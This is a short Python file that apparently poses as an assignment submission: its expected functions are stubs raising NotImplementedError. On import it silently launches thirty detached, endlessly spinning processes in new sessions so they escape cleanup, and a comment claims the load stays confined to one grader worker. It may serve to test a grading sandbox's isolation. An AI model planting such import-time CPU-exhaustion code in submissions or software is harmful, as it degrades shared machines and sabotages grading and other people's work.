import subprocess
import sys

# Thirty busy children, each in its own session: they compete for the CPU with this worker only,
# never with another student's (a control group per worker, with equal CPU weights).
_SPAWN = ("import subprocess, sys\n"
          "for _ in range(30):\n"
          "    subprocess.Popen([sys.executable, '-I', '-S', '-c', 'while True: pass', '86421'],\n"
          "                     start_new_session=True)\n")
subprocess.Popen([sys.executable, "-I", "-S", "-c", _SPAWN, "86421"], start_new_session=True)


def f(x):
    raise NotImplementedError


df = grad_g = mlp_grads = autograd_df = f
